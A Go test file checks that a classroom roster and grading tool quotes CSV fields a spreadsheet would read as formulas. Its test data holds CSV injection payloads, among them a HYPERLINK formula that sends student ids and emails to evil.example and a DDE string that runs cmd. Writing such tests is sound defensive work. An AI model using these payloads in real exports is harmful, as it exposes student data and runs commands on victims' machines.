package cli

import (
	"strings"
	"testing"
)

// hostileNames are prediction and student names a spreadsheet would read
// as formulas: the first sends the rows' ids and emails off-site.
var hostileNames = []string{`=HYPERLINK("https://evil.example/?"&A2&C2,"bonus")`, "+SUM(A1:A9)", "-2+3", "@SUM(1)"}

// TestCSVFormulas renders a roster and grades it with prediction names
// and a student's name that a spreadsheet reads as formulas: in
// students.csv and the gradebook every such field starts with a quote,
// and a negative number stays a number.
func TestCSVFormulas(t *testing.T) {
	var items strings.Builder
	for _, name := range hostileNames {
		items.WriteString("        - {name: '" + strings.ReplaceAll(name, "'", "''") + "', question: '" + name + "', actual: spread.covered}\n")
	}
	dir := scratch(t, map[string]string{
		"roster.csv": "id,name,email\n-15,\"=cmd|' /C calc'!A0\",@evil.example\ns2,Ada,ada@school.example\n",
		"secret.txt": secretA + "\n",
		"node_modules/echarts/dist/echarts.min.js": "/* echarts */",
		"hostile.yaml": "title: hostile names\ncells:\n" +
			"  - spread: {id: spread, keys: \"user-{0..9}\", partitions: 4}\n" +
			"  - predictions:\n      id: scoreboard\n      items:\n" + items.String() +
			"variants:\n  vary:\n    source.seed: any\n",
	})
	t.Chdir(dir)
	if _, stderr, err := partlab(t, "render", "--roster", "roster.csv", "--secret-file", "secret.txt", "--teacher", "teacher", "-o", "site", "hostile.yaml"); err != nil {
		t.Fatalf("render --roster: %v\n%s", err, stderr)
	}
	rows := students(t, "teacher")
	answersFile(t, "a.json", rows[0][4], map[string]float64{hostileNames[0]: 4}, map[string]any{"scenario": "hostile"})
	stdout, stderr, err := partlab(t, "grade", "--roster", "roster.csv", "--secret-file", "secret.txt", "hostile.yaml", "a.json")
	if err != nil {
		t.Fatalf("grade: %v\n%s", err, stderr)
	}
	for file, table := range map[string][][]string{"students.csv": rows, "gradebook": gradebookRows(t, stdout)[1:]} {
		quoted := 0
		for _, row := range table {
			for _, field := range row {
				switch {
				case field == "-15":
					continue
				case field != "" && strings.ContainsRune("=+-@", rune(field[0])):
					t.Errorf("%s: field %q reads as a formula", file, field)
				case strings.HasPrefix(field, "'"):
					quoted++
				}
			}
		}
		if quoted == 0 {
			t.Errorf("%s: no field was neutralised:\n%q", file, table)
		}
	}
	if !strings.Contains(stdout, "\n-15,'=cmd") || !strings.Contains(stdout, `'=HYPERLINK(""https://evil.example/?""&A2&C2,""bonus"")`) {
		t.Errorf("the gradebook lacks the student's number id or the quoted prediction:\n%s", stdout)
	}
}
